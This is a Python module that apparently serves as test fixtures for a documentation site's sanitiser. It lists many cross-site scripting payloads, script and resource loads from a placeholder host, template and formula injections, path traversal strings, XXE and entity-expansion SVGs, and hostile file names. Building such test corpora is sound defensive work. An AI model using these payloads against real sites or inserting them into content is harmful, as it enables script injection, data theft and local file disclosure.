"""Texts as somebody would write them who wants a reader's browser to run, load or send something.

What runs sets `window.owned`; what loads asks for `evil.example`. A payload that does neither is a way out of where it stands.
"""

from __future__ import annotations

RUN = "window.owned=1"
HOST = "evil.example"
SCHEMES = (
    "javascript:{run}", "JaVaScRiPt:{run}", "java\tscript:{run}", " javascript:{run}", "&#106;avascript:{run}", "&#x6A;avascript:{run}",
    "javascript&colon;{run}", "javascript&#58;{run}", "java&Tab;script:{run}", "java&NewLine;script:{run}", "vbscript:{run}", "data:text/html,<script>{run}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cub3duZWQ9MTwvc2NyaXB0Pg==", "//{host}/a", "\\\\\\\\{host}/a", "/\\\\{host}/a", "https:/\\\\{host}", "blob:https://{host}/a",
    "file:///etc/passwd", "filesystem:https://{host}/a", "view-source:https://{host}", "javascript:a(b({run}))", "%6Aavascript:{run}", "\u200bjavascript:{run}",
)  # fmt: skip
_TAGS = (
    "<script>{run}</script>", "<script src=https://{host}/a.js></script>", "<SCRIPT SRC=//{host}/a.js>", "<script\n>{run}</script>", "<scr<script>ipt>{run}</script>",
    "<img src=x onerror={run}>", "<img src=https://{host}/p.gif>", "<img\nsrc=x\nonerror={run}>", '<img src="x` `<script>{run}</script>">', "<svg onload={run}>", "<svg><script>{run}</script></svg>",
    "<svg><animate attributeName=href values=javascript:{run} /></svg>", "<svg><use href=https://{host}/a.svg#b /></svg>", "<svg><foreignObject><body onload={run}></foreignObject></svg>",
    "<math><mi xlink:href=javascript:{run}>x</mi></math>", "<iframe src=https://{host}/></iframe>", '<iframe srcdoc="<script>{run}</script>"></iframe>', "<object data=https://{host}/></object>",
    "<embed src=https://{host}/>", "<form action=https://{host}/><input type=password name=p autofocus onfocus={run}></form>", "<button formaction=javascript:{run}>x</button>",
    "<base href=https://{host}/>", "<link rel=stylesheet href=https://{host}/a.css>", "<style>@import 'https://{host}/a.css';</style>", "<meta http-equiv=refresh content='0;url=https://{host}/'>",
    "<details open ontoggle={run}>", "<video src=https://{host}/a.mp4 onerror={run}>", "<audio src=x onerror={run}>", "<body onload={run}>", "<marquee onstart={run}>", "<input onfocus={run} autofocus>",
    "<a href=javascript:{run}>x</a>", "<a href=https://{host}/ ping=https://{host}/p>x</a>", "<p style=background:url(https://{host}/a.png)>x</p>", "<div onclick={run}>x</div>", "<xss onmouseover={run}>x</xss>",
    "<!--><script>{run}</script>-->", "<!-- --!><script>{run}</script>", "<![CDATA[<script>{run}</script>]]>", "<?xml-stylesheet href='https://{host}/a.css'?>", "<template><script>{run}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>", "</title><script>{run}</script>", "</textarea><script>{run}</script>", "</script><script>{run}</script>", "--><script>{run}</script>",
    "<scr\x00ipt>{run}</script>", "<\u200bscript>{run}</script>", "<script>{run}//", "<<script>{run}//<</script>", "< script>{run}</script>", "<portal src=https://{host}/>",
)  # fmt: skip
_BREAKERS = (
    '" onmouseover="{run}', "' onmouseover='{run}", '" autofocus onfocus="{run}" x="', '"><script>{run}</script>', "'><img src=x onerror={run}>", '" style="background:url(https://{host}/a)', '" src="https://{host}/a.js',
    "` onmouseover={run} `", "&quot; onmouseover=&quot;{run}", "&#34; onmouseover=&#34;{run}", '\\" onmouseover=\\"{run}', '\\"};{run};//', "';{run};//", '";{run};//', "`;{run};`", "${{{run}}}", "\u2028{run}//", "]]>{run}",
    "*/{run}/*", "%22%20onmouseover%3D%22{run}", "&lt;script&gt;{run}&lt;/script&gt;", "&amp;lt;script&amp;gt;{run}", "&#60;script&#62;{run}&#60;/script&#62;", "&#x3c;img src=x onerror={run}&#x3e;", "\\x3cscript\\x3e{run}",
    "\\u003cscript\\u003e{run}", "%3Cscript%3E{run}%3C/script%3E", "+ADw-script+AD4-{run}", "=cmd|'/c calc'!A1", '=HYPERLINK("https://{host}","x")', "@SUM(1)", "{{{{ config.extra }}}}", "{{% include '/etc/passwd' %}}", "{{{{ ''.__class__.__mro__ }}}}",
    "{{# x #}}", "{name}", "{0}", "{count}", "%s%n", "A\\`B", "A`B", "a](x", "a ](javascript:{run})", "[", "]", "!", "![", "\\", "|", "{{ .x }}", "{{ #main }}", "__proto__", "../../../etc/passwd", "..\\..\\windows", "con",
)  # fmt: skip
_MARKDOWN = (
    "![x](https://{host}/p.gif)", "![x][e]\n\n[e]: https://{host}/p.gif", "[x](a.md){{ onclick={run} }}", "[x](#x){{ href=javascript:{run} }}", "x\n{{: onmouseover={run} style=color:red }}", "**x**{{: onclick={run} }}",
    "``` {{ .py onclick={run} }}\nx\n```", "  ```\n<script>{run}</script>\n  ```", "```\n<script>{run}</script>", "\\`<script>{run}</script>\\`", "`a`` <script>{run}</script> ``b`", "<div markdown=1>\n<script>{run}</script>\n</div>",
    '*[x]: " onmouseover={run}', "[x][y]\n\n[y]: javascript:{run}", "[y]\n\n[y]: <javascript:{run}> 'z'", "[x](<javascript:{run}>)", "[x](javascript:{run} 'a')", '[x](javascript:{run} "a" )', "[![x](javascript:{run})](javascript:{run})",
    "<javascript:{run}>", '<https://{host}/" onmouseover="{run}>', "x{{ .md-source }}\n{{ .mermaid }}", "x\n{{: data-md-component=search data-hb=languages }}", '??? note "<script>{run}</script>"\n    x', "| a {{ onclick={run} }} |\n| - |\n| b |",
    "<!-- handbook:figure id=x --><script>{run}</script>", '<!-- handbook:case-studies step=messages" onclick="{run} -->', "[@x]<script>{run}</script>", "[@x, `] <script>{run}</script> `", "`[@x]<script>{run}</script>`", "[^1]: <script>{run}</script>",
    "&lt;img src=x onerror={run}&gt;", "a\n===\n<script>{run}</script>", "    <script>{run}</script>", "1. <script>{run}</script>", "x <b>y</b> z", "<br/onmouseover={run}>", "[x](https://[{host}/)", "[x](http://[::1]/)", "![x](data:image/svg+xml,<svg/onload={run}>)",
)  # fmt: skip


def _filled(forms: tuple[str, ...]) -> tuple[str, ...]:
    """The forms with what they run and the host that they ask; braces stand doubled in them."""
    named = (form.replace("{run}", RUN).replace("{host}", HOST) for form in forms)
    return tuple(form.replace("{{", "{").replace("}}", "}") for form in named)


ADDRESSES = _filled(SCHEMES)
LINKS = tuple(f"[x]({one})" for one in ADDRESSES)
TEXTS = (*_filled(_TAGS), *_filled(_BREAKERS))
"""For any text that is shown as it is."""
MARKDOWN = (*_filled(_MARKDOWN), *LINKS, *TEXTS)
"""For what is written as Markdown."""
SHARP = (
    f"[x](javascript:{RUN})", f"x{{ onclick={RUN} }}", f"x {{: onclick={RUN} }}", f'" onmouseover="{RUN}', f"' onmouseover='{RUN}", f"[x](#x){{ onclick={RUN} }}", f"**x**{{: onclick={RUN} }}", f"x\n{{: onclick={RUN} }}",
    f"x\n\n~~~ {{ .py onclick={RUN} }}\nx\n~~~\n", f"[x][y]\n\n[y]: javascript:{RUN}", f"`]({RUN}) [x](javascript:{RUN})", f"![x](https://{HOST}/p.gif)", f'*[x]: " onmouseover={RUN}', f"</script >{RUN}",
)  # fmt: skip
"""What gets through where a text is not made plain for the place in which it stands."""
ALL = tuple(dict.fromkeys((*TEXTS, *ADDRESSES, *MARKDOWN)))

_SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9"{}>{}</svg>'
PICTURES = {
    "script": _SVG.format("", f"<script>{RUN}</script>"),
    "onload": _SVG.format(f' onload="{RUN}"', ""),
    "handler": _SVG.format("", f'<g onclick="{RUN}"/>'),
    "address": _SVG.format("", f'<a href="javascript:{RUN}"><text>x</text></a>'),
    "xlink": _SVG.format("", f'<use xlink:href="https://{HOST}/a.svg#b"/>'),
    "image": _SVG.format("", f'<image href="https://{HOST}/p.png"/>'),
    "foreign": _SVG.format("", f'<foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="{RUN}"/></foreignObject>'),
    "animate": _SVG.format("", f'<animate attributeName="href" values="javascript:{RUN}"/>'),
    "set": _SVG.format("", f'<set attributeName="onmouseover" to="{RUN}"/>'),
    "style": _SVG.format("", f"<style>@import 'https://{HOST}/a.css';</style>"),
    "style-attribute": _SVG.format(f' style="background:url(https://{HOST}/a)"', ""),
    "fill": _SVG.format("", f'<rect fill="url(https://{HOST}/a.svg#b)"/>'),
    "entity": f'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>{_SVG.format("", "<text>&x;</text>")}',
    "laughs": '<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>' + _SVG.format("", "<text>&b;</text>"),
    "instruction": f'<?xml-stylesheet href="https://{HOST}/a.css"?>{_SVG.format("", "")}',
    "page": f'<html xmlns="http://www.w3.org/1999/xhtml"><script>{RUN}</script></html>',
    "broken": "<svg",
    "other-namespace": _SVG.format("", f'<h:script xmlns:h="http://www.w3.org/1999/xhtml">{RUN}</h:script>'),
}  # fmt: skip
"""SVG that does more than draw."""
NAMES = (
    "docs/about/<img src=x onerror=a>.md", 'docs/about/x" onclick="y.md', "docs/about/a.b.md", "docs/about/..%2fx.md", "docs/about/%2e%2e.md", "docs/evil.js", "docs/evil.html", "docs/about/evil.htm", "docs/evil.svgz", "docs/sw.php",
    "docs/about/CON .md", "docs/about/ä.md", "docs/about/a\u202eb.md", "case_studies/<b>.yml", 'case_studies/" onclick=".yml', "case_studies/..yml", "case_studies/A.yml", "case_studies/evil.html", "docs/templates/x.md", "docs/figures/x.JPG",
)  # fmt: skip
"""Files whose names, or kinds, must not reach the site."""
